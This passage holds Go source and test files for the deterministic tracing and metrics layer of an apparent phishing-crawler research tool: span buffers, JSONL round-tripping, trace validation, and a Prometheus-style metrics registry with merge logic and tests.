		t.Errorf("parent links wrong: root=%d child=%d grand=%d", root.Parent, child.Parent, grand.Parent)
	}
	if got := grand.Duration(); got != 50*time.Millisecond {
		t.Errorf("grandchild duration = %v, want 50ms", got)
	}
	if got := root.Duration(); got != 61*time.Millisecond {
		t.Errorf("root duration = %v, want 61ms", got)
	}
	if root.Status != StatusError || child.Status != StatusOK {
		t.Errorf("status: root=%q child=%q", root.Status, child.Status)
	}
	if grand.AttrValue("status") != "200" {
		t.Errorf("attr status = %q", grand.AttrValue("status"))
	}
}

func TestNilSafety(t *testing.T) {
	var o *Observer
	tr := o.NewTrace(1, newFakeClock())
	if tr != nil {
		t.Fatal("nil observer must hand out nil traces")
	}
	sp := tr.Start(SpanStage, "parse")
	sp.SetAttr("k", "v")
	sp.SetStatus(StatusError)
	sp.End()
	if tr.Spans() != nil {
		t.Error("nil trace must record nothing")
	}
	o.Collect(tr)
	var buf bytes.Buffer
	if err := o.WriteJSONL(&buf); err != nil || buf.Len() != 0 {
		t.Errorf("nil observer WriteJSONL: err=%v len=%d", err, buf.Len())
	}

	var r *Registry
	r.Inc("c")
	r.Add("c", 2)
	r.Set("g", 1)
	r.Observe("h", 5)
	r.DefineBuckets("h", []float64{1})
	if r.Snapshot() != nil {
		t.Error("nil registry snapshot must be nil")
	}
	if err := r.WriteProm(&buf); err != nil {
		t.Errorf("nil registry WriteProm: %v", err)
	}
}

func TestRegistryProm(t *testing.T) {
	r := NewRegistry()
	r.DefineBuckets("lat", []float64{10, 100})
	r.Inc("reqs", "status", "2xx")
	r.Inc("reqs", "status", "2xx")
	r.Inc("reqs", "status", "4xx")
	r.Set("up", 1)
	r.Observe("lat", 5)
	r.Observe("lat", 50)
	r.Observe("lat", 5000)

	var buf bytes.Buffer
	if err := r.WriteProm(&buf); err != nil {
		t.Fatal(err)
	}
	want := strings.Join([]string{
		"# TYPE lat histogram",
		"lat_bucket{le=\"10\"} 1",
		"lat_bucket{le=\"100\"} 2",
		"lat_bucket{le=\"+Inf\"} 3",
		"lat_sum 5055",
		"lat_count 3",
		"# TYPE reqs counter",
		"reqs{status=\"2xx\"} 2",
		"reqs{status=\"4xx\"} 1",
		"# TYPE up gauge",
		"up 1",
		"",
	}, "\n")
	if got := buf.String(); got != want {
		t.Errorf("prom dump:\n%s\nwant:\n%s", got, want)
	}
}

func TestRegistryTypeMismatchNoOps(t *testing.T) {
	r := NewRegistry()
	r.Inc("m")
	r.Observe("m", 5) // same name, different type: dropped
	snap := r.Snapshot()
	if len(snap) != 1 || snap[0].Type != typeCounter || snap[0].Value != 1 {
		t.Errorf("snapshot = %+v", snap)
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	clock := newFakeClock()
	tr := NewTrace(3, clock)
	root := tr.Start(SpanMessage, "message 3")
	clock.advance(time.Second)
	v := tr.Start(SpanVisit, "visit https://b.example/")
	v.SetAttr("status", "200")
	v.SetAttr("bytes", "115")
	v.SetStatus(StatusError)
	v.End()
	root.End()

	var buf bytes.Buffer
	if err := WriteJSONL(&buf, []*Trace{tr}); err != nil {
		t.Fatal(err)
	}
	first := buf.String()
	traces, err := ReadJSONL(strings.NewReader(first))
	if err != nil {
		t.Fatal(err)
	}
	if len(traces) != 1 || traces[0].ID() != 3 || len(traces[0].Spans()) != 2 {
		t.Fatalf("round trip shape: %d traces", len(traces))
	}
	var buf2 bytes.Buffer
	if err := WriteJSONL(&buf2, traces); err != nil {
		t.Fatal(err)
	}
	if buf2.String() != first {
		t.Errorf("round trip not byte-identical:\n%s\nvs\n%s", first, buf2.String())
	}
}

func TestSanitizeURL(t *testing.T) {
	for in, want := range map[string]string{
		"https://a.example/p?tok=cf-tok-000001": "https://a.example/p",
		"https://a.example/p#frag":              "https://a.example/p",
		"https://a.example/p":                   "https://a.example/p",
		"file:///mal.html":                      "file:///mal.html",
	} {
		if got := SanitizeURL(in); got != want {
			t.Errorf("SanitizeURL(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestObserverMergesInSpecOrder(t *testing.T) {
	o := New()
	clock := newFakeClock()
	for _, id := range []int64{5, 2, 9} {
		tr := o.NewTrace(id, clock)
		tr.Start(SpanMessage, "m").End()
		o.Collect(tr)
	}
	got := o.Traces()
	if len(got) != 3 || got[0].ID() != 2 || got[1].ID() != 5 || got[2].ID() != 9 {
		t.Errorf("trace order wrong: %v", []int64{got[0].ID(), got[1].ID(), got[2].ID()})
	}
	snap := o.Metrics.Snapshot()
	byName := map[string]float64{}
	for _, p := range snap {
		byName[p.Name] = p.Value
	}
	if byName["obs_traces_total"] != 3 || byName["obs_spans_total"] != 3 {
		t.Errorf("census counters = %+v", byName)
	}
}

func TestTriageRenders(t *testing.T) {
	clock := newFakeClock()
	tr := NewTrace(1, clock)
	root := tr.Start(SpanMessage, "message 1")
	st := tr.Start(SpanStage, "crawl")
	clock.advance(50 * time.Millisecond)
	st.End()
	fast := tr.Start(SpanStage, "parse")
	fast.End()
	root.SetAttr("outcome", "active-phish")
	root.End()

	traces := []*Trace{tr}
	stats := StageStats(traces)
	if len(stats) != 2 || stats[0].Stage != "crawl" || stats[0].P50 != 50*time.Millisecond {
		t.Fatalf("stage stats = %+v", stats)
	}
	table := RenderStageTable(traces)
	if !strings.Contains(table, "crawl") || !strings.Contains(table, "parse") {
		t.Errorf("stage table missing rows:\n%s", table)
	}
	if out := RenderOutcomes(traces); !strings.Contains(out, "active-phish") {
		t.Errorf("outcomes missing row:\n%s", out)
	}
	path := CriticalPath(tr)
	if len(path) != 2 || path[1].Name != "crawl" {
		t.Errorf("critical path = %d spans", len(path))
	}
	tree := RenderTree(tr)
	if !strings.Contains(tree, "message 1") || !strings.Contains(tree, "  stage") {
		t.Errorf("tree:\n%s", tree)
	}
}
