package obs

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"
	"time"
)

// Observer bundles the two sinks of one observed run: completed per-message
// trace buffers and the shared metrics registry. A single Observer is
// shared by every corpus worker; Collect is the cross-goroutine hand-off
// point, and the export methods merge the buffers in trace-ID (spec) order
// so concurrent runs emit identical timelines.
//
// All methods are no-ops on a nil *Observer.
type Observer struct {
	// Metrics is the run's shared metrics registry.
	Metrics *Registry

	mu     sync.Mutex
	traces []*Trace // guarded by mu
}

// New returns an Observer with a fresh metrics registry.
func New() *Observer {
	return &Observer{Metrics: NewRegistry()}
}

// NewTrace creates a trace buffer for one analysis. Returns nil (the no-op
// trace) on a nil Observer, so callers can thread the result unconditionally.
func (o *Observer) NewTrace(id int64, clock Clock) *Trace {
	if o == nil {
		return nil
	}
	return NewTrace(id, clock)
}

// Collect stores a completed trace and feeds the span census counters
// (obs_traces_total, obs_spans_total, obs_spans_total{kind}).
func (o *Observer) Collect(t *Trace) {
	if o == nil || t == nil {
		return
	}
	spans := t.Spans()
	o.Metrics.Inc("obs_traces_total")
	o.Metrics.Add("obs_spans_total", float64(len(spans)))
	for _, s := range spans {
		o.Metrics.Inc("obs_spans_by_kind_total", "kind", s.Kind.String())
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	o.traces = append(o.traces, t)
}

// Traces returns the collected traces sorted by trace ID — the merge in
// spec order that makes exports schedule-independent. Trace IDs must be
// unique per run (corpus runners key them by MessageSpec.ID).
func (o *Observer) Traces() []*Trace {
	if o == nil {
		return nil
	}
	o.mu.Lock()
	out := make([]*Trace, len(o.traces))
	copy(out, o.traces)
	o.mu.Unlock()
	sort.SliceStable(out, func(i, j int) bool { return out[i].ID() < out[j].ID() })
	return out
}

// WriteJSONL writes the collected traces as sorted JSONL.
func (o *Observer) WriteJSONL(w io.Writer) error {
	if o == nil {
		return nil
	}
	return WriteJSONL(w, o.Traces())
}

// spanRecord is the JSONL wire form of one span. Attrs marshal as a JSON
// object — encoding/json emits map keys sorted, so lines are byte-stable.
type spanRecord struct {
	Trace  int64             `json:"trace"`
	Span   int               `json:"span"`
	Parent int               `json:"parent,omitempty"`
	Kind   string            `json:"kind"`
	Name   string            `json:"name"`
	Start  int64             `json:"start"`
	End    int64             `json:"end"`
	Status string            `json:"status"`
	Attrs  map[string]string `json:"attrs,omitempty"`
}

// WriteJSONL writes one span per line: traces in the given order (callers
// pass them sorted by ID), spans in creation order, attributes sorted by
// key. Timestamps are virtual-time UnixNano, so the file is golden-testable.
func WriteJSONL(w io.Writer, traces []*Trace) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for _, t := range traces {
		for _, s := range t.Spans() {
			rec := spanRecord{
				Trace:  t.ID(),
				Span:   s.ID,
				Parent: s.Parent,
				Kind:   s.Kind.String(),
				Name:   s.Name,
				Start:  s.StartTime.UnixNano(),
				End:    s.EndTime.UnixNano(),
				Status: s.Status,
			}
			if len(s.Attrs) > 0 {
				rec.Attrs = make(map[string]string, len(s.Attrs))
				for _, a := range sortedAttrs(s.Attrs) {
					rec.Attrs[a.Key] = a.Value
				}
			}
			if err := enc.Encode(&rec); err != nil {
				return err
			}
		}
	}
	return bw.Flush()
}

// ReadJSONL parses a JSONL trace stream back into traces sorted by ID,
// spans in span-ID order — the inverse of WriteJSONL, used by obsreport and
// the golden tests. Parsed traces carry no clock; they are read-only.
func ReadJSONL(r io.Reader) ([]*Trace, error) {
	byID := map[int64]*Trace{}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1024*1024), 1024*1024)
	line := 0
	for sc.Scan() {
		line++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var rec spanRecord
		if err := json.Unmarshal(raw, &rec); err != nil {
			return nil, fmt.Errorf("obs: trace line %d: %w", line, err)
		}
		t := byID[rec.Trace]
		if t == nil {
			t = &Trace{id: rec.Trace}
			byID[rec.Trace] = t
		}
		s := &Span{
			ID:        rec.Span,
			Parent:    rec.Parent,
			Kind:      KindFromString(rec.Kind),
			Name:      rec.Name,
			StartTime: unixNano(rec.Start),
			EndTime:   unixNano(rec.End),
			Status:    rec.Status,
			tr:        t,
		}
		attrKeys := make([]string, 0, len(rec.Attrs))
		for k := range rec.Attrs {
			attrKeys = append(attrKeys, k)
		}
		sort.Strings(attrKeys)
		for _, k := range attrKeys {
			s.Attrs = append(s.Attrs, Attr{Key: k, Value: rec.Attrs[k]})
		}
		t.spans = append(t.spans, s)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	ids := make([]int64, 0, len(byID))
	for id := range byID {
		ids = append(ids, id)
	}
	sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
	out := make([]*Trace, 0, len(ids))
	for _, id := range ids {
		t := byID[id]
		sort.SliceStable(t.spans, func(i, j int) bool { return t.spans[i].ID < t.spans[j].ID })
		out = append(out, t)
	}
	return out, nil
}

// unixNano converts a virtual UnixNano back to a UTC time.
func unixNano(ns int64) time.Time {
	return time.Unix(0, ns).UTC()
}

// ValidateTraces checks structural integrity of parsed traces: every trace
// must have exactly one root span, every parent link must resolve to a span
// in the same trace, and no span may end before it starts (virtual clocks
// are monotonic, so a negative extent can only come from truncated or
// hand-damaged input). Renderers call it before trusting a JSONL dump so a
// partial write fails loudly instead of producing a silently-partial report.
func ValidateTraces(traces []*Trace) error {
	for _, t := range traces {
		spans := t.Spans()
		ids := make(map[int]bool, len(spans))
		roots := 0
		for _, s := range spans {
			if ids[s.ID] {
				return fmt.Errorf("obs: trace %d: duplicate span id %d", t.ID(), s.ID)
			}
			ids[s.ID] = true
			if s.Parent == 0 {
				roots++
			}
			if s.EndTime.Before(s.StartTime) {
				return fmt.Errorf("obs: trace %d: span %d ends before it starts", t.ID(), s.ID)
			}
		}
		if roots != 1 {
			return fmt.Errorf("obs: trace %d: %d root spans, want exactly 1 (truncated trace?)", t.ID(), roots)
		}
		for _, s := range spans {
			if s.Parent != 0 && !ids[s.Parent] {
				return fmt.Errorf("obs: trace %d: span %d references missing parent %d (truncated trace?)",
					t.ID(), s.ID, s.Parent)
			}
		}
	}
	return nil
}
