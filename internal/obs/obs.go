// Package obs is the deterministic observability layer of the CrawlerBox
// reproduction: spans over stages, visits, and network requests, plus a
// metrics registry — all timestamped from the execution's virtual
// webnet.Clock fork, never the wall clock, so traces and metric snapshots
// are byte-reproducible across runs and worker counts.
//
// The package is stdlib-only and deliberately decoupled from the rest of
// the tree: time is injected through the small Clock interface (satisfied
// by *webnet.Clock), so webnet, browser, and crawlerbox can all depend on
// obs without a cycle.
//
// Every entry point is nil-safe: methods on a nil *Trace, *Span, *Registry,
// or *Observer are no-ops. Instrumentation sites therefore never branch on
// "is tracing enabled" — with observability off the whole layer costs a nil
// check per site, which keeps the tracing-off pipeline throughput within
// noise of the uninstrumented baseline.
package obs

import (
	"sort"
	"strings"
	"sync"
	"time"
)

// Clock is the virtual time source spans read. *webnet.Clock satisfies it.
type Clock interface {
	Now() time.Time
}

// SpanKind classifies a span by the pipeline layer that produced it.
type SpanKind int

// Span kinds, one per instrumented layer.
const (
	// SpanMessage is the root span of one message analysis.
	SpanMessage SpanKind = iota + 1
	// SpanStage covers one Stage.Run of the pipeline chain.
	SpanStage
	// SpanVisit covers one browser navigation (Visit or LoadHTML).
	SpanVisit
	// SpanRequest covers one webnet HTTP round trip.
	SpanRequest
	// SpanDNS covers one DNS resolution inside a round trip.
	SpanDNS
	// SpanRetry covers one resilience wait between request attempts: a
	// backoff charged to the virtual clock, or a zero-length breaker
	// short-circuit marker.
	SpanRetry
)

// String names the kind (the JSONL "kind" field).
func (k SpanKind) String() string {
	switch k {
	case SpanMessage:
		return "message"
	case SpanStage:
		return "stage"
	case SpanVisit:
		return "visit"
	case SpanRequest:
		return "request"
	case SpanDNS:
		return "dns"
	case SpanRetry:
		return "retry"
	default:
		return "unknown"
	}
}

// KindFromString is the inverse of SpanKind.String (0 for unknown names).
func KindFromString(s string) SpanKind {
	for k := SpanMessage; k <= SpanRetry; k++ {
		if k.String() == s {
			return k
		}
	}
	return 0
}

// Span statuses.
const (
	// StatusOK marks a span that completed normally.
	StatusOK = "ok"
	// StatusError marks a span whose operation failed.
	StatusError = "error"
)

// Attr is one key-value span attribute.
type Attr struct {
	Key   string
	Value string
}

// Span is one timed operation inside a trace. A span is owned by the
// goroutine running its analysis (analyses are single-goroutine by
// construction), so its fields need no lock; the owning Trace serializes
// the shared span list and parent stack.
//
// Determinism contract for instrumentation sites: span names and attribute
// values must never embed schedule-dependent state — allocated client IPs,
// issued challenge tokens, raw query strings that may carry either. Record
// scheme+host+path (see SanitizeURL), statuses, byte counts, and virtual
// timestamps only.
type Span struct {
	// ID is the 1-based creation ordinal within the trace.
	ID int
	// Parent is the enclosing span's ID (0 for the root).
	Parent int
	// Kind is the pipeline layer that produced the span.
	Kind SpanKind
	// Name labels the operation (stage name, sanitized URL, ...).
	Name string
	// StartTime / EndTime are virtual timestamps from the trace clock.
	StartTime time.Time
	EndTime   time.Time
	// Status is StatusOK or StatusError.
	Status string
	// Attrs are the key-value annotations, in append order.
	Attrs []Attr

	tr *Trace
}

// SetAttr appends a key-value attribute. No-op on a nil span.
func (s *Span) SetAttr(key, value string) {
	if s == nil {
		return
	}
	s.Attrs = append(s.Attrs, Attr{Key: key, Value: value})
}

// SetStatus overrides the span status. No-op on a nil span.
func (s *Span) SetStatus(status string) {
	if s == nil {
		return
	}
	s.Status = status
}

// End closes the span at the trace clock's current virtual time.
func (s *Span) End() {
	if s == nil {
		return
	}
	s.EndAt(s.tr.now())
}

// EndAt closes the span at an explicit virtual time. webnet uses it to
// attribute request latency to the per-request clock override rather than
// the shared network clock.
func (s *Span) EndAt(at time.Time) {
	if s == nil {
		return
	}
	s.EndTime = at
	s.tr.pop(s)
}

// Duration is the span's virtual-time extent.
func (s *Span) Duration() time.Duration {
	if s == nil {
		return 0
	}
	return s.EndTime.Sub(s.StartTime)
}

// AttrValue returns the last value recorded for key ("" when absent).
func (s *Span) AttrValue(key string) string {
	if s == nil {
		return ""
	}
	for i := len(s.Attrs) - 1; i >= 0; i-- {
		if s.Attrs[i].Key == key {
			return s.Attrs[i].Value
		}
	}
	return ""
}

// Trace is the span buffer of one message analysis. Span IDs are assigned
// in creation order from a per-trace counter, and parent links come from a
// stack of open spans — both deterministic because each analysis runs on a
// single goroutine. The mutex makes the buffer safe for the cross-goroutine
// hand-off to the Observer and for defensive concurrent use.
type Trace struct {
	id    int64
	clock Clock

	mu     sync.Mutex
	spans  []*Span // guarded by mu
	stack  []*Span // guarded by mu
	nextID int     // guarded by mu
}

// NewTrace returns an empty trace reading virtual time from clock. The id
// must be unique within one export (corpus runners key it by MessageSpec.ID)
// because exports merge trace buffers in id order.
func NewTrace(id int64, clock Clock) *Trace {
	return &Trace{id: id, clock: clock}
}

// ID returns the trace identifier.
func (t *Trace) ID() int64 {
	if t == nil {
		return 0
	}
	return t.id
}

// now reads the trace clock (zero time without one).
func (t *Trace) now() time.Time {
	if t == nil || t.clock == nil {
		return time.Time{}
	}
	return t.clock.Now()
}

// Start opens a span at the trace clock's current virtual time, parented to
// the innermost open span. Returns nil (a no-op span) on a nil trace.
func (t *Trace) Start(kind SpanKind, name string) *Span {
	if t == nil {
		return nil
	}
	return t.StartAt(kind, name, t.now())
}

// StartAt is Start with an explicit virtual start time.
func (t *Trace) StartAt(kind SpanKind, name string, at time.Time) *Span {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.nextID++
	s := &Span{
		ID:        t.nextID,
		Kind:      kind,
		Name:      name,
		StartTime: at,
		Status:    StatusOK,
		tr:        t,
	}
	if len(t.stack) > 0 {
		s.Parent = t.stack[len(t.stack)-1].ID
	}
	t.spans = append(t.spans, s)
	t.stack = append(t.stack, s)
	return s
}

// pop removes s from the open-span stack (topmost occurrence), tolerating
// out-of-order ends.
func (t *Trace) pop(s *Span) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	for i := len(t.stack) - 1; i >= 0; i-- {
		if t.stack[i] == s {
			t.stack = append(t.stack[:i], t.stack[i+1:]...)
			return
		}
	}
}

// Spans returns the recorded spans in creation (ID) order.
func (t *Trace) Spans() []*Span {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]*Span, len(t.spans))
	copy(out, t.spans)
	return out
}

// SanitizeURL reduces a URL to scheme://host/path, dropping the query and
// fragment. Span names and attributes must use it for any URL that flowed
// through the live world: query strings can carry schedule-dependent state
// (issued challenge tokens), and recording them would break the
// byte-identical-across-worker-counts trace guarantee.
func SanitizeURL(raw string) string {
	if i := strings.IndexAny(raw, "?#"); i >= 0 {
		return raw[:i]
	}
	return raw
}

// sortedAttrs returns a copy of attrs sorted by key (stable, so for
// duplicate keys append order decides).
func sortedAttrs(attrs []Attr) []Attr {
	out := make([]Attr, len(attrs))
	copy(out, attrs)
	sort.SliceStable(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}
