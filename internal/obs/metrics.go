package obs

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"sync"
)

// Series types.
const (
	typeCounter   = "counter"
	typeGauge     = "gauge"
	typeHistogram = "histogram"
)

// DefaultBuckets are the histogram bounds used when a metric has no
// explicit DefineBuckets call: virtual-latency nanoseconds from 1ms to 30s,
// matching the simulation's 50ms round trips and 30s event-loop windows.
var DefaultBuckets = []float64{
	1e6, 5e6, 1e7, 2.5e7, 5e7, 1e8, 2.5e8, 5e8,
	1e9, 2.5e9, 5e9, 1e10, 3e10,
}

// series is one metric stream: a (name, sorted labels) pair with either a
// scalar value (counter, gauge) or histogram state.
type series struct {
	name   string
	labels []Attr
	typ    string
	value  float64   // counter / gauge
	sum    float64   // histogram
	counts []uint64  // histogram, len(bounds)+1 with +Inf last
	bounds []float64 // histogram
}

// Registry is a race-safe metrics store with a deterministic snapshot: all
// write operations are commutative (counter adds, histogram observes), so
// the exported state is identical no matter how concurrent workers
// interleave — the property the corpus runner's workers-1-vs-8 golden test
// pins. Gauges are the exception (last write wins); restrict them to values
// set once or set identically by every schedule.
//
// All methods are no-ops on a nil *Registry, so instrumentation sites never
// branch on whether metrics are enabled.
type Registry struct {
	mu     sync.Mutex
	series map[string]*series   // guarded by mu
	bounds map[string][]float64 // guarded by mu
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		series: map[string]*series{},
		bounds: map[string][]float64{},
	}
}

// DefineBuckets sets the histogram bounds for name (ascending, +Inf
// implicit). Must be called before the first Observe of that name;
// later calls are ignored once the first series exists.
func (r *Registry) DefineBuckets(name string, bounds []float64) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.bounds[name] = append([]float64(nil), bounds...)
}

// Inc adds 1 to a counter. Labels are alternating key, value pairs.
func (r *Registry) Inc(name string, labels ...string) {
	r.Add(name, 1, labels...)
}

// Add adds delta to a counter.
//
//cblint:hotpath
func (r *Registry) Add(name string, delta float64, labels ...string) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	s := r.get(name, typeCounter, labels)
	if s == nil {
		return
	}
	s.value += delta
}

// Set sets a gauge. Use only for values every schedule sets identically.
func (r *Registry) Set(name string, v float64, labels ...string) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	s := r.get(name, typeGauge, labels)
	if s == nil {
		return
	}
	s.value = v
}

// Observe records v into a histogram (bounds from DefineBuckets, else
// DefaultBuckets).
//
//cblint:hotpath
func (r *Registry) Observe(name string, v float64, labels ...string) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	s := r.get(name, typeHistogram, labels)
	if s == nil {
		return
	}
	if s.counts == nil {
		b := r.bounds[name]
		if b == nil {
			b = DefaultBuckets
		}
		s.bounds = b
		s.counts = make([]uint64, len(b)+1)
	}
	idx := len(s.bounds) // +Inf bucket
	for i, bound := range s.bounds {
		if v <= bound {
			idx = i
			break
		}
	}
	s.counts[idx]++
	s.sum += v
}

// get returns (creating if needed) the series for (name, labels), or nil on
// a type mismatch with an existing series. Callers hold r.mu.
func (r *Registry) get(name, typ string, labels []string) *series {
	attrs := labelAttrs(labels)
	key := seriesKey(name, attrs)
	//cblint:ignore guarded every caller (Add, Set, Observe) holds r.mu across the get call
	s := r.series[key]
	if s == nil {
		s = &series{name: name, labels: attrs, typ: typ}
		//cblint:ignore guarded every caller (Add, Set, Observe) holds r.mu across the get call
		r.series[key] = s
	}
	if s.typ != typ {
		return nil
	}
	return s
}

// labelAttrs pairs up alternating key, value strings, sorted by key.
func labelAttrs(labels []string) []Attr {
	attrs := make([]Attr, 0, len(labels)/2)
	for i := 0; i+1 < len(labels); i += 2 {
		attrs = append(attrs, Attr{Key: labels[i], Value: labels[i+1]})
	}
	sort.SliceStable(attrs, func(i, j int) bool { return attrs[i].Key < attrs[j].Key })
	return attrs
}

// seriesKey is the registry key: name, then sorted labels, NUL-separated so
// ordering groups a metric's series together.
func seriesKey(name string, attrs []Attr) string {
	key := name
	for _, a := range attrs {
		key += "\x00" + a.Key + "\x01" + a.Value
	}
	return key
}

// MergeDroppedMetric counts series a Merge/MergePoints fold had to skip
// because their type or histogram bucket layout conflicted with an existing
// series. The "reason" label distinguishes type-conflict from
// bucket-conflict. A clean deployment never populates it, so its presence
// in an export is itself the alert.
const MergeDroppedMetric = "obs_merge_dropped_total"

// Merge folds another registry's series into r: counter values add,
// histograms add their sums and per-bucket counts (r adopts the source's
// bounds when it has never observed the metric), and gauges overwrite —
// the same last-write-wins contract Set has. Counter and histogram merges
// are commutative and associative, so per-worker registries merged in any
// order export identical snapshots; gauge order only matters when
// schedules set different values, which the Set contract already forbids.
// A series whose type or bucket layout conflicts with an existing one is
// skipped — and the skip is itself counted in MergeDroppedMetric, so a
// misconfigured fleet shows up in its own exports instead of silently
// losing data. Merging a nil source, or into a nil registry, is a no-op.
func (r *Registry) Merge(o *Registry) {
	if r == nil || o == nil {
		return
	}
	r.MergePoints(o.Snapshot())
}

// MergePoints folds a point snapshot into r under the same contract as
// Merge. It is the restore path for snapshots that crossed a serialization
// boundary (the tracestore's KindMetrics records) as well as Merge's core.
func (r *Registry) MergePoints(points []Point) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, p := range points {
		key := seriesKey(p.Name, p.Labels)
		//cblint:ignore guarded MergePoints holds r.mu across the whole fold
		s := r.series[key]
		if s == nil {
			s = &series{name: p.Name, labels: p.Labels, typ: p.Type}
			//cblint:ignore guarded MergePoints holds r.mu across the whole fold
			r.series[key] = s
		}
		if s.typ != p.Type {
			r.countDroppedLocked("type-conflict")
			continue
		}
		switch p.Type {
		case typeCounter:
			s.value += p.Value
		case typeGauge:
			s.value = p.Value
		case typeHistogram:
			if len(p.Counts) == 0 {
				continue
			}
			if s.counts == nil {
				s.bounds = p.Bounds
				s.counts = make([]uint64, len(p.Counts))
			}
			if len(s.counts) != len(p.Counts) {
				r.countDroppedLocked("bucket-conflict")
				continue
			}
			for i, c := range p.Counts {
				s.counts[i] += c
			}
			s.sum += p.Sum
		}
	}
}

// countDroppedLocked bumps the merge-drop self-observability counter.
// Callers hold r.mu, so it writes the series directly instead of going
// through Add (which would deadlock on the non-reentrant mutex).
func (r *Registry) countDroppedLocked(reason string) {
	attrs := []Attr{{Key: "reason", Value: reason}}
	key := seriesKey(MergeDroppedMetric, attrs)
	//cblint:ignore guarded every caller (MergePoints) holds r.mu
	s := r.series[key]
	if s == nil {
		s = &series{name: MergeDroppedMetric, labels: attrs, typ: typeCounter}
		//cblint:ignore guarded every caller (MergePoints) holds r.mu
		r.series[key] = s
	}
	if s.typ == typeCounter {
		s.value++
	}
}

// Point is one series in a snapshot.
type Point struct {
	// Name is the metric name.
	Name string
	// Labels are the series labels, sorted by key.
	Labels []Attr
	// Type is "counter", "gauge", or "histogram".
	Type string
	// Value is the scalar for counters and gauges.
	Value float64
	// Sum / Counts / Bounds describe histograms (Counts has one extra
	// trailing +Inf bucket).
	Sum    float64
	Counts []uint64
	Bounds []float64
}

// Snapshot returns every series sorted by (name, labels) — the
// deterministic, race-safe read side of the registry.
func (r *Registry) Snapshot() []Point {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	keys := make([]string, 0, len(r.series))
	for k := range r.series {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	out := make([]Point, 0, len(keys))
	for _, k := range keys {
		s := r.series[k]
		p := Point{
			Name:   s.name,
			Labels: append([]Attr(nil), s.labels...),
			Type:   s.typ,
			Value:  s.value,
			Sum:    s.sum,
			Bounds: s.bounds,
		}
		p.Counts = append([]uint64(nil), s.counts...)
		out = append(out, p)
	}
	return out
}

// WriteProm writes the registry in Prometheus text exposition format,
// sorted by (name, labels) so the dump is byte-stable.
func (r *Registry) WriteProm(w io.Writer) error {
	if r == nil {
		return nil
	}
	lastName := ""
	for _, p := range r.Snapshot() {
		if p.Name != lastName {
			if _, err := fmt.Fprintf(w, "# TYPE %s %s\n", p.Name, p.Type); err != nil {
				return err
			}
			lastName = p.Name
		}
		var err error
		switch p.Type {
		case typeHistogram:
			err = writePromHistogram(w, &p)
		default:
			_, err = fmt.Fprintf(w, "%s%s %s\n", p.Name, promLabels(p.Labels, "", ""), formatValue(p.Value))
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// writePromHistogram emits the cumulative _bucket/_sum/_count triplet.
func writePromHistogram(w io.Writer, p *Point) error {
	var cum uint64
	for i, c := range p.Counts {
		cum += c
		le := "+Inf"
		if i < len(p.Bounds) {
			le = formatValue(p.Bounds[i])
		}
		if _, err := fmt.Fprintf(w, "%s_bucket%s %d\n",
			p.Name, promLabels(p.Labels, "le", le), cum); err != nil {
			return err
		}
	}
	if _, err := fmt.Fprintf(w, "%s_sum%s %s\n", p.Name, promLabels(p.Labels, "", ""), formatValue(p.Sum)); err != nil {
		return err
	}
	_, err := fmt.Fprintf(w, "%s_count%s %d\n", p.Name, promLabels(p.Labels, "", ""), cum)
	return err
}

// promLabels renders {k="v",...} with an optional extra trailing label
// (used for histogram le). Empty label sets render as "".
func promLabels(attrs []Attr, extraKey, extraVal string) string {
	if len(attrs) == 0 && extraKey == "" {
		return ""
	}
	out := "{"
	for i, a := range attrs {
		if i > 0 {
			out += ","
		}
		out += a.Key + `="` + a.Value + `"`
	}
	if extraKey != "" {
		if len(attrs) > 0 {
			out += ","
		}
		out += extraKey + `="` + extraVal + `"`
	}
	return out + "}"
}

// formatValue renders a float the shortest way that round-trips.
func formatValue(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}
