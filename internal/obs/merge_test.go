package obs

import (
	"bytes"
	"strings"
	"testing"
)

// promDump renders a registry for byte comparison.
func promDump(t *testing.T, r *Registry) string {
	t.Helper()
	var buf bytes.Buffer
	if err := r.WriteProm(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestRegistryMergeMatchesDirect pins the Merge contract: folding
// per-worker registries together must export the same bytes as writing
// every operation into one shared registry.
func TestRegistryMergeMatchesDirect(t *testing.T) {
	ops := func(r *Registry, worker int) {
		r.Inc("requests_total", "status", "2xx")
		r.Add("requests_total", 2, "status", "4xx")
		r.Add("bytes_total", float64(100*(worker+1)))
		r.Observe("latency_ns", 2e6)
		r.Observe("latency_ns", 4e9)
		r.Set("build_info", 1, "version", "7")
	}

	direct := NewRegistry()
	shards := make([]*Registry, 3)
	for w := range shards {
		shards[w] = NewRegistry()
		ops(direct, w)
		ops(shards[w], w)
	}

	merged := NewRegistry()
	for _, s := range shards {
		merged.Merge(s)
	}
	if got, want := promDump(t, merged), promDump(t, direct); got != want {
		t.Errorf("merged registries diverge from direct writes:\n--- merged ---\n%s--- direct ---\n%s", got, want)
	}

	// Commutativity: merging the shards in reverse order exports the same
	// bytes (the gauge is set identically by every shard, per Set's rule).
	reversed := NewRegistry()
